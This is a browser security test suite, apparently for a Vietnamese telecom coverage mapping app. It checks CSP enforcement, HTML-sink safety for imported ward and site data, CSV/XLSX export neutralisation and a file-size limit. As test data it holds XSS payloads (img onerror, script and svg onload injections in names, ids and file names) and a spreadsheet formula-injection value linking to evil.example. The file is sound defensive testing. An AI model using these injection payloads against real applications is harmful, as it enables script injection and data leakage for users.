/**
 * The browser as a security boundary (issue 15), on the production build served with its Content-Security-Policy
 * as a header (static-server.ts), offline:
 * - the policy is in force (an injected inline script is refused and reported) and the app itself breaks none of
 *   it (no securitypolicyviolation in the page, no CSP error in the page's or the worker's console), while
 *   WebAssembly still compiles in the worker (HiGHS) and eval is refused;
 * - imported text never reaches an HTML sink: every innerHTML/outerHTML/insertAdjacentHTML/document.write/
 *   createContextualFragment/DOMParser call is watched for a marker carried by hostile ward names, ids, site ids and
 *   file names (an HTML/JS payload, a bidi/zero-width string, a 6,000-character name); the walk goes through the
 *   import reports, the ward table, the map tooltip and popup, the analysis table and the CSV/XLSX exports, and
 *   finds each payload shown as text and no script run;
 * - a file too large for the tab is refused before it is read, with the limit and the CLI in the message.
 */
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { chromium, type Browser, type Download, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { builtContentSecurityPolicy, serveDirectory, type StaticServer } from './static-server.ts';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const DIST = `${ROOT}dist`;
const CHROMIUM = '/usr/bin/chromium';
const OUT_DIR = `${ROOT}tests/browser/screenshots`;

/** Every payload carries MARK, so that an HTML sink receiving imported text is caught by the watch below. */
const MARK = 'PWNMARK';
const HTML_NAME = `<img src=x onerror="window.__pwned='${MARK}'">${MARK}`;
const SCRIPT_NAME = `"><script>window.__pwned='${MARK}'</script>`;
const BIDI_NAME = `${MARK} \u202Eexe.ảnh\u202C zero\u200Bwidth\u200D`;
const LONG_NAME = `${MARK} ${'Phường Rất Dài '.repeat(400)}`.trim();
const FORMULA_NAME = `=HYPERLINK("http://evil.example/?${MARK}","Bấm")`;
const WARD_NAMES = [HTML_NAME, SCRIPT_NAME, BIDI_NAME, LONG_NAME, FORMULA_NAME];
const WARDS_FILE_NAME = `<img src=x onerror=alert('${MARK}')>.geojson`;
const SITES_FILE_NAME = `"><svg onload=alert('${MARK}')>.csv`;

/** Five vertical strips over Hải Phòng, one per hostile name; the ids are payloads too. */
const HOSTILE_WARDS = JSON.stringify({
  type: 'FeatureCollection',
  features: WARD_NAMES.map((name, i) => {
    const west = 106.4 + i * 0.16;
    return {
      type: 'Feature',
      properties: { ward_id: `<b>${MARK}-${i}</b>`, name, district: `<i onmouseover=alert(1)>${MARK}</i>`, type: 'Phường' },
      geometry: { type: 'Polygon', coordinates: [[[west, 20.5], [west + 0.16, 20.5], [west + 0.16, 21.1], [west, 21.1], [west, 20.5]]] },
    };
  }),
});

const HOSTILE_SITE_ID = `<img src=x onerror=alert('${MARK}')>`;
const HOSTILE_SITES = [
  'site_id,lon,lat,operator,technology,band_mhz,height_m',
  `"${HOSTILE_SITE_ID}",106.72,20.85,"${MARK}<script>alert(1)</script>",4G,1800,30`,
  `S2,"<script>${MARK}</script>",20.85,Viettel,4G,1800,30`,
  'S3,106.60,20.80,Viettel,4G,1800,30',
].join('\n');

let server: StaticServer;
let browser: Browser;
let page: Page;
const pageErrors: string[] = [];
const cspConsoleErrors: string[] = [];
const dialogs: string[] = [];

/** Installed before any script of the page: records violations and watches every HTML sink for MARK. */
function watchPage(mark: string): void {
  const security = { violations: [] as string[], htmlSinks: [] as string[], hugeReads: [] as string[] };
  (window as unknown as { __security: typeof security }).__security = security;
  document.addEventListener('securitypolicyviolation', (event) => {
    security.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
  });
  const record = (sink: string, value: unknown) => {
    if (String(value).includes(mark)) security.htmlSinks.push(`${sink}: ${String(value).slice(0, 120)}`);
  };
  for (const [prototype, property] of [[Element.prototype, 'innerHTML'], [Element.prototype, 'outerHTML'], [ShadowRoot.prototype, 'innerHTML']] as const) {
    const descriptor = Object.getOwnPropertyDescriptor(prototype, property)!;
    Object.defineProperty(prototype, property, {
      ...descriptor,
      set(value: string) {
        record(property, value);
        descriptor.set!.call(this, value);
      },
    });
  }
  const insertAdjacentHTML = Element.prototype.insertAdjacentHTML;
  Element.prototype.insertAdjacentHTML = function watched(position: InsertPosition, text: string) {
    record('insertAdjacentHTML', text);
    insertAdjacentHTML.call(this, position, text);
  };
  const write = Document.prototype.write;
  Document.prototype.write = function watched(...text: string[]) {
    record('document.write', text.join(''));
    write.apply(this, text);
  };
  const createContextualFragment = Range.prototype.createContextualFragment;
  Range.prototype.createContextualFragment = function watched(text: string) {
    record('createContextualFragment', text);
    return createContextualFragment.call(this, text);
  };
  const parseFromString = DOMParser.prototype.parseFromString;
  DOMParser.prototype.parseFromString = function watched(text: string, type: DOMParserSupportedType) {
    if (type === 'text/html') record('DOMParser', text);
    return parseFromString.call(this, text, type);
  };
  // a file named huge-… claims 2 GB without holding it; any read of it is recorded
  const size = Object.getOwnPropertyDescriptor(Blob.prototype, 'size')!;
  Object.defineProperty(File.prototype, 'size', {
    get(this: File) {
      return this.name.startsWith('huge-') ? 2_000_000_000 : size.get!.call(this);
    },
  });
  for (const method of ['arrayBuffer', 'text', 'stream', 'slice'] as const) {
    const original = Blob.prototype[method] as (...args: unknown[]) => unknown;
    (Blob.prototype as unknown as Record<string, unknown>)[method] = function watched(this: Blob, ...args: unknown[]) {
      if (this instanceof File && this.name.startsWith('huge-')) security.hugeReads.push(method);
      return original.apply(this, args);
    };
  }
}

interface Watched {
  violations: string[];
  htmlSinks: string[];
  hugeReads: string[];
  pwned: unknown;
}

async function watched(): Promise<Watched> {
  return page.evaluate(() => {
    const state = window as unknown as { __security: Omit<Watched, 'pwned'>; __pwned?: unknown };
    return { ...state.__security, pwned: state.__pwned };
  });
}

async function download(selector: string): Promise<{ download: Download; bytes: Buffer }> {
  const [event] = await Promise.all([page.waitForEvent('download'), page.click(selector)]);
  return { download: event, bytes: readFileSync(await event.path()) };
}

describe('security in Chromium: CSP, imported text, size limit', () => {
  beforeAll(async () => {
    if (!existsSync(`${DIST}/index.html`)) throw new Error('dist/index.html is missing: run `npm run build` first');
    mkdirSync(OUT_DIR, { recursive: true });
    server = await serveDirectory(DIST);
    browser = await chromium.launch({ executablePath: CHROMIUM });
    const context = await browser.newContext({ viewport: { width: 1366, height: 820 }, acceptDownloads: true });
    await context.route('**/*', (route) => {
      const url = route.request().url();
      return url.startsWith(server.url) || url.startsWith('data:') || url.startsWith('blob:') ? route.continue() : route.abort();
    });
    await context.addInitScript(watchPage, MARK);
    page = await context.newPage();
    page.on('pageerror', (error) => pageErrors.push(error.message));
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const onConsole = (where: string) => (message: { type(): string; text(): string }) => {
      if (/Content.Security.Policy|Refused to/i.test(message.text())) cspConsoleErrors.push(`${where}: ${message.text()}`);
    };
    page.on('console', onConsole('page'));
    page.on('worker', (worker) => worker.on('console', onConsole(`worker ${worker.url()}`)));
    await page.goto(server.url);
    await page.waitForSelector('.app[data-all-loaded=true]', { timeout: 90_000 });
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  it('ships a policy with no inline script, scripts and workers from self, connections to self only', async () => {
    const policy = builtContentSecurityPolicy(DIST);
    expect(policy).not.toBeNull();
    const directives = new Map(policy!.split(';').map((part) => {
      const [name, ...values] = part.trim().split(/\s+/);
      return [name, values] as const;
    }));
    expect(directives.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(directives.get('worker-src')).toEqual(["'self'"]);
    expect(directives.get('connect-src')).toEqual(["'self'"]);
    expect(directives.get('style-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('img-src')).toEqual(expect.arrayContaining(["'self'", 'https:']));
    const response = await page.request.get(server.url);
    expect(response.headers()['content-security-policy']).toBe(`${policy}; frame-ancestors 'none'`);
  });

  it('the worker runs under the policy: WebAssembly compiles (HiGHS), eval is refused', async () => {
    const worker = page.workers()[0];
    expect(worker).toBeDefined();
    const result = await worker.evaluate(async () => {
      // the smallest module: magic number and version
      const wasm = await WebAssembly.compile(new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0])).then(() => 'compiled', (error: Error) => error.message);
      let evaluated: string;
      try {
        evaluated = String((0, eval)('1 + 1'));
      } catch (error) {
        evaluated = (error as Error).name;
      }
      return { wasm, evaluated };
    });
    expect(result).toEqual({ wasm: 'compiled', evaluated: 'EvalError' });
  });

  it('shows hostile ward names, ids and file names as text in the import report and the ward table', async () => {
    await page.click('[data-tab=import]');
    await page.setInputFiles('input[data-layer=wards]', { name: WARDS_FILE_NAME, mimeType: 'application/geo+json', buffer: Buffer.from(HOSTILE_WARDS) });
    const report = page.locator('.report-card').filter({ hasText: WARDS_FILE_NAME });
    await report.waitFor();
    expect(await report.getAttribute('data-report-file')).toBe(WARDS_FILE_NAME);

    await page.click('[data-tab=wards]');
    await page.fill('.ward-table input[type=search]', MARK);
    const names = await page.locator('.grid-row > span:first-child').allTextContents();
    expect(names.sort()).toEqual(WARD_NAMES.filter((name) => name.includes(MARK)).sort());
  });

  it('shows them as text in the map tooltip and popup', async () => {
    await page.click('[data-tab=layers]');
    await page.uncheck('[data-layer-toggle=sites]');
    await page.uncheck('[data-layer-toggle=fibre]');
    await page.uncheck('[data-layer-toggle=households]');
    await page.waitForTimeout(500);
    const box = (await page.locator('.map').boundingBox())!;
    const tooltipTexts = new Set<string>();
    const popupTitles = new Set<string>();
    const popupTexts: string[] = [];
    for (const fraction of [0.2, 0.35, 0.5, 0.65, 0.8]) {
      await page.mouse.move(box.x + box.width * fraction, box.y + box.height * 0.5);
      // a tooltip fading out may still be there next to the new one
      for (const text of await page.locator('.leaflet-tooltip.ward-tooltip').allTextContents()) tooltipTexts.add(text);
      await page.mouse.click(box.x + box.width * fraction, box.y + box.height * 0.5);
      await page.waitForTimeout(150);
      for (const text of await page.locator('.leaflet-popup-content .feature-card-title').allTextContents()) popupTitles.add(text);
      // a 6,000-character name stays a card: the title is cut to three lines, the tooltip to two of 320 px
      for (const title of await page.locator('.leaflet-popup-content .feature-card-title').all()) {
        expect((await title.boundingBox())!.height).toBeLessThan(70);
        expect(WARD_NAMES).toContain(await title.getAttribute('title'));
      }
      // measured in one pass in the page: a tooltip fading out can be removed between two locator calls;
      // a box of no size is one not laid out (what boundingBox() reports as null)
      const tooltipWidths = await page.locator('.leaflet-tooltip.ward-tooltip > span').evaluateAll((spans) =>
        spans.map((span) => span.getBoundingClientRect()).filter((rect) => rect.width > 0 || rect.height > 0).map((rect) => rect.width));
      for (const width of tooltipWidths) {
        expect(width).toBeGreaterThan(60);
        // 320 px, give or take the sub-pixel offset of the map pane
        expect(width).toBeLessThan(321);
      }
      for (const text of await page.locator('.leaflet-popup-content').allTextContents()) popupTexts.push(text);
      await page.keyboard.press('Escape');
      // Leaflet removes a closed popup 200 ms after fading it: one still fading would vanish mid-check next round
      await page.waitForFunction(() => document.querySelector('.leaflet-popup') === null);
    }
    expect(tooltipTexts.size, 'tooltips seen').toBeGreaterThan(0);
    expect(popupTitles.size, 'popups seen').toBeGreaterThan(0);
    for (const text of [...tooltipTexts, ...popupTitles]) expect(WARD_NAMES).toContain(text);
    for (const text of popupTexts) expect(text).toContain(`<i onmouseover=alert(1)>${MARK}</i>`);
    await page.mouse.click(box.x + box.width * 0.65, box.y + box.height * 0.5);
    await page.mouse.move(box.x + box.width * 0.35, box.y + box.height * 0.7);
    await page.waitForTimeout(400);
    await page.screenshot({ path: `${OUT_DIR}/security-popup.png` });
    await page.keyboard.press('Escape');
  });

  it('reports a hostile sites file as text: its name and a rejected payload value', async () => {
    await page.click('[data-tab=import]');
    await page.setInputFiles('input[data-layer=sites]', { name: SITES_FILE_NAME, mimeType: 'text/csv', buffer: Buffer.from(HOSTILE_SITES) });
    const report = page.locator('.report-card').filter({ hasText: SITES_FILE_NAME });
    await report.waitFor();
    expect((await report.locator('.report-counts dd').allTextContents()).slice(0, 3)).toEqual(['3', '2', '1']);
    expect(await report.locator('.issue-reason').allTextContents()).toEqual(expect.arrayContaining([expect.stringContaining(`“<script>${MARK}</script>”`)]));
    await page.screenshot({ path: `${OUT_DIR}/security-import-report.png` });
  });

  it('runs the analysis and exports the wards as CSV (formulae neutralised) and XLSX (string cells) with the names as written', async () => {
    await page.click('[data-tab=analysis]');
    await page.click('[data-action=run-analysis]');
    await page.waitForSelector('[data-export=wards-csv]:not([disabled])', { timeout: 120_000 });
    const tableText = (await page.locator('.analysis-panel').textContent()) ?? '';
    expect(tableText).toContain(BIDI_NAME);

    const csv = await download('[data-export=wards-csv]');
    const rows = Papa.parse<string[]>(csv.bytes.toString('utf8').slice(1), { skipEmptyLines: true }).data;
    const csvNames = rows.slice(1).map((row) => row[1]);
    for (const name of WARD_NAMES) expect(csvNames).toContain(name.startsWith('=') ? `'${name}` : name);

    const xlsx = await download('[data-export=wards-xlsx]');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const xlsxNames: unknown[] = [];
    sheet.eachRow((row, number) => {
      if (number > 1) xlsxNames.push(row.getCell(2).value);
    });
    for (const name of WARD_NAMES) expect(xlsxNames).toContain(name);
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined()));
  });

  it('refuses a file too large for the tab before reading it, naming the limit and the CLI', async () => {
    await page.click('[data-tab=import]');
    await page.setInputFiles('input[data-layer=households]', { name: 'huge-households.csv', mimeType: 'text/csv', buffer: Buffer.from('household_id,lon,lat\nh1,106.7,20.8\n') });
    const notice = page.locator('.notice').filter({ hasText: 'huge-households.csv' });
    await notice.waitFor();
    expect(await notice.textContent()).toBe(
      'Không nhập huge-households.csv: tệp chứa 2000 MB dữ liệu, vượt giới hạn 512 MB mà ứng dụng đọc được trong trình duyệt. Với tệp lớn như vậy, hãy dùng dòng lệnh phusong (npm run phusong -- analyze …).Đóng',
    );
    await page.screenshot({ path: `${OUT_DIR}/security-size-limit.png` });
    expect((await watched()).hugeReads).toEqual([]);
    expect(await page.locator('.report-card[data-report-file="huge-households.csv"]').count()).toBe(0);
  });

  it('ran no imported script, sent no imported text to an HTML sink, and broke no policy', async () => {
    const state = await watched();
    expect(state.pwned).toBeUndefined();
    expect(state.htmlSinks).toEqual([]);
    expect(state.violations).toEqual([]);
    expect(cspConsoleErrors).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(pageErrors).toEqual([]);
    expect(await page.locator('img[src="x"], img[onerror], svg[onload], i[onmouseover]').count()).toBe(0);
  });

  it('the watch on HTML sinks does catch one (a control for the test above)', async () => {
    await page.evaluate((mark) => {
      const element = document.createElement('div');
      element.innerHTML = `<b>${mark}</b>`;
    }, MARK);
    expect((await watched()).htmlSinks).toEqual([`innerHTML: <b>${MARK}</b>`]);
  });

  it('enforces the policy: an injected inline script is refused and reported', async () => {
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.head.append(script);
      await new Promise((resolve) => setTimeout(resolve, 100));
      script.remove();
      return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
    });
    expect(ran).toBe(false);
    const { violations } = await watched();
    expect(violations.length, violations.join('\n')).toBeGreaterThan(0);
    expect(violations.every((violation) => violation.startsWith('script-src-elem inline ')), violations.join('\n')).toBe(true);
  });
});
